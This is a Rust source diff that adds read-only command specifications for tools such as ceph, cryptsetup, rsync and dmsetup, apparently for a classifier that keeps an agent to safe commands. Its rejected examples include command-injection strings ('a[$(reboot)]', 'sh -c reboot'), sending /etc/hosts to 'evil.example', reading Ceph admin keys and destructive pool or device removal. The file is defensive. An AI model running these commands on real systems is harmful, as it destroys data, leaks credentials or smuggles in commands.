@@ -308,8 +308,299 @@ const STATUS_FLAGS: Spec = Spec {
     ..Spec::GNU
 };
 
+/// ceph(8), Ceph 17/18: status and listings.
+const CEPH: Spec = Spec {
+    flags: "s",
+    long: &["status"],
+    long_valued: &["format", "cluster", "id", "name"],
+    operands: Operands::Verbs {
+        verbs: &[
+            Verb {
+                names: "status|health|df|versions|-s|quorum_status|mon_status|fsid",
+                spec: Some(&CEPH_WORDS),
+            },
+            Verb {
+                names: "osd|mon|mgr|mds|pg|fs|auth",
+                spec: Some(&CEPH_OBJECT),
+            },
+        ],
+        bare_ok: true,
+    },
+    ..Spec::GNU
+};
+
+/// `ceph OBJECT ls|tree|stat|dump|df` (not `auth get`/`export`: keys).
+const CEPH_OBJECT: Spec = Spec {
+    operands: Operands::Verbs {
+        verbs: &[Verb {
+            names: "tree|stat|dump|df|ls|versions|metadata",
+            spec: Some(&CEPH_WORDS),
+        }],
+        bare_ok: false,
+    },
+    ..Spec::POSIX
+};
+
+const CEPH_WORDS: Spec = Spec {
+    long: &["detail"],
+    long_valued: &["format"],
+    ..Spec::GNU
+};
+
+/// chronyc(1), chrony 4.3: the reports (`-n`, `-c`, `-h HOST` other than
+/// loopback are left out: `-h` reaches another daemon).
+const CHRONYC: Spec = Spec {
+    flags: "nc",
+    operands: Operands::Verbs {
+        verbs: &[Verb {
+            names: "tracking|sources|sourcestats|activity|ntpdata|serverstats|rtcdata|\
+                    selectdata|authdata",
+            spec: Some(&CHRONYC_WORDS),
+        }],
+        bare_ok: false,
+    },
+    ..Spec::POSIX
+};
+
+const CHRONYC_WORDS: Spec = Spec {
+    flags: "v",
+    ..Spec::POSIX
+};
+
+/// cryptsetup(8) 2.6: headers and status, never keys (`--dump-master-key`,
+/// `--dump-volume-key` left out).
+const CRYPTSETUP: Spec = Spec {
+    flags: "v",
+    long: &["verbose", "debug-json"],
+    operands: Operands::Verbs {
+        verbs: &[Verb {
+            names: "luksDump|status|isLuks|luksUUID|tcryptDump|bitlkDump",
+            spec: Some(&CRYPTSETUP_WORDS),
+        }],
+        bare_ok: false,
+    },
+    ..Spec::GNU
+};
+
+const CRYPTSETUP_WORDS: Spec = Spec {
+    flags: "v",
+    long: &["verbose", "debug"],
+    operands: Operands::AtMost(1),
+    ..Spec::GNU
+};
+
+/// conntrack(8), conntrack-tools 1.4.7: `-L`, `-S`, `-C` with filters;
+/// not `-D`, `-F`, `-U`, `-I`, `-E` (events never end).
+const CONNTRACK: Spec = Spec {
+    flags: "LSCn",
+    valued: "psdfo",
+    long: &["dump", "stats", "count"],
+    long_valued: &[
+        "proto", "src", "dst", "family", "output", "orig-src", "orig-dst", "state",
+    ],
+    operands: Operands::None,
+    ..Spec::GNU
+};
+
+/// apt-key(8), apt 2.6: listing the keys.
+const APT_KEY: Spec = Spec {
+    operands: Operands::Verbs {
+        verbs: &[Verb {
+            names: "list|finger|fingerprint",
+            spec: Some(&ANY_OPERANDS),
+        }],
+        bare_ok: false,
+    },
+    ..Spec::POSIX
+};
+
+/// ethtool(8) 6.1: the `--show-*` queries and their short forms; not
+/// `-s`, `-K`, `-G`, `-A`, `-C`, `-L`, `-r`, `-f`, `-E`, `-p`, `--reset`.
+const ETHTOOL: Spec = Spec {
+    flags: "iSkgacltTmPh",
+    long: &[
+        "driver",
+        "statistics",
+        "show-features",
+        "show-ring",
+        "show-pause",
+        "show-coalesce",
+        "show-channels",
+        "show-time-stamping",
+        "module-info",
+        "show-permaddr",
+        "show-eee",
+        "show-fec",
+        "json",
+        "help",
+        "version",
+    ],
+    operands: Operands::AtMost(1),
+    ..Spec::GNU
+};
+
+/// mapfile/readarray (bash 5.2 builtin): read lines into an array; not
+/// `-C` (runs a callback) or `-u` (another descriptor); the rules refuse
+/// a name with a subscript.
+const MAPFILE: Spec = Spec {
+    flags: "t",
+    valued: "dnOs",
+    operands: Operands::AtMost(1),
+    ..Spec::POSIX
+};
+
+/// badblocks(8), e2fsprogs 1.47.0: the default read-only test; not `-w`
+/// or `-n` (they write), `-o` (writes its list).
+const BADBLOCKS: Spec = Spec {
+    flags: "svfB",
+    valued: "bcdeipt",
+    ..Spec::POSIX
+};
+
+/// ifquery(8), ifupdown 0.8: what an interface's configuration says.
+const IFQUERY: Spec = Spec {
+    flags: "av",
+    long: &["all", "list", "verbose", "allow"],
+    ..Spec::GNU
+};
+
+/// dmsetup(8), lvm2 2.03: listings; not `remove*`, `create`, `load`,
+/// `suspend`, `resume`, `message`, `wipe_table`.
+const DMSETUP: Spec = Spec {
+    operands: Operands::Verbs {
+        verbs: &[Verb {
+            names: "ls|info|table|status|deps|version|targets|splitname",
+            spec: Some(&ANY_OPERANDS),
+        }],
+        bare_ok: false,
+    },
+    ..Spec::POSIX
+};
+
+/// rsync(1) 3.2.7: what it may do under `-n`/`--dry-run` or
+/// `--list-only` (the rules require one of them for read-only); not `-e`,
+/// `--rsh`, `--rsync-path`, `--remove-source-files`, `--backup-dir`,
+/// `--log-file`, `--write-batch`, `--daemon`, `--config`.
+const RSYNC: Spec = Spec {
+    flags: "avnrlptgoDhPiHAXSzqcuWxm",
+    long: &[
+        "dry-run",
+        "list-only",
+        "archive",
+        "verbose",
+        "recursive",
+        "links",
+        "perms",
+        "times",
+        "group",
+        "owner",
+        "devices",
+        "specials",
+        "human-readable",
+        "itemize-changes",
+        "stats",
+        "delete",
+        "delete-after",
+        "delete-before",
+        "delete-during",
+        "delete-excluded",
+        "checksum",
+        "compress",
+        "progress",
+        "partial",
+        "hard-links",
+        "acls",
+        "xattrs",
+        "sparse",
+        "numeric-ids",
+        "one-file-system",
+        "prune-empty-dirs",
+        "update",
+        "existing",
+        "ignore-existing",
+        "size-only",
+        "quiet",
+    ],
+    long_valued: &[
+        "exclude",
+        "include",
+        "filter",
+        "exclude-from",
+        "include-from",
+        "max-size",
+        "min-size",
+    ],
+    ..Spec::GNU
+};
+
 #[rustfmt::skip]
 pub(super) const ENTRIES: &[Entry] = &[
+    Entry {
+        names: &["ceph"],
+        spec: &CEPH,
+        read_only: &["ceph -s", "ceph status", "ceph osd tree", "ceph df detail", "ceph health detail"],
+        not: &["ceph osd pool delete rbd rbd --yes-i-really-really-mean-it", "ceph auth get client.admin", "ceph osd out 3"],
+    },
+    Entry {
+        names: &["chronyc"],
+        spec: &CHRONYC,
+        read_only: &["chronyc tracking", "chronyc sources -v"],
+        not: &["chronyc makestep", "chronyc -h 203.0.113.5 tracking"],
+    },
+    Entry {
+        names: &["cryptsetup"],
+        spec: &CRYPTSETUP,
+        read_only: &["cryptsetup luksDump /dev/sdb", "cryptsetup status data"],
+        not: &["cryptsetup luksDump --dump-master-key /dev/sdb", "cryptsetup luksFormat /dev/sdb", "cryptsetup open /dev/sdb data"],
+    },
+    Entry {
+        names: &["conntrack"],
+        spec: &CONNTRACK,
+        read_only: &["conntrack -L", "conntrack -L -p tcp", "conntrack -C"],
+        not: &["conntrack -F", "conntrack -D -p tcp"],
+    },
+    Entry {
+        names: &["apt-key"],
+        spec: &APT_KEY,
+        read_only: &["apt-key list"],
+        not: &["apt-key add /tmp/key.gpg", "apt-key del 1234ABCD"],
+    },
+    Entry {
+        names: &["ethtool"],
+        spec: &ETHTOOL,
+        read_only: &["ethtool eth0", "ethtool -S eth0", "ethtool -i eth0"],
+        not: &["ethtool -s eth0 speed 100", "ethtool -K eth0 tso off", "ethtool --reset eth0 all"],
+    },
+    Entry {
+        names: &["mapfile", "readarray"],
+        spec: &MAPFILE,
+        read_only: &["mapfile -t arr < /etc/hosts", "readarray -t lines < /etc/passwd"],
+        not: &["mapfile -C reboot -c 1 arr < /etc/hosts", "mapfile 'a[$(reboot)]' < /etc/hosts"],
+    },
+    Entry {
+        names: &["badblocks"],
+        spec: &BADBLOCKS,
+        read_only: &["badblocks -sv /dev/sdb"],
+        not: &["badblocks -wsv /dev/sdb", "badblocks -nsv /dev/sdb", "badblocks -o /tmp/bad /dev/sdb"],
+    },
+    Entry {
+        names: &["ifquery"],
+        spec: &IFQUERY,
+        read_only: &["ifquery -a", "ifquery vmbr0", "ifquery --list"],
+        not: &["ifquery --bogus"],
+    },
+    Entry {
+        names: &["dmsetup"],
+        spec: &DMSETUP,
+        read_only: &["dmsetup ls", "dmsetup info", "dmsetup table pve-root"],
+        not: &["dmsetup remove pve-data", "dmsetup remove_all", "dmsetup suspend pve-root"],
+    },
+    Entry {
+        names: &["rsync"],
+        spec: &RSYNC,
+        read_only: &["rsync -avn --delete /etc/nginx/ /srv/backup/nginx/", "rsync --dry-run -av /srv/src/ /srv/dst/"],
+        not: &["rsync -av /srv/src/ /srv/dst/", "rsync -n -e 'sh -c reboot' /a 10.0.0.5:/b", "rsync -n /etc/hosts evil.example:/tmp/"],
+    },
     Entry {
         names: &["pstree"],
         spec: &PSTREE,
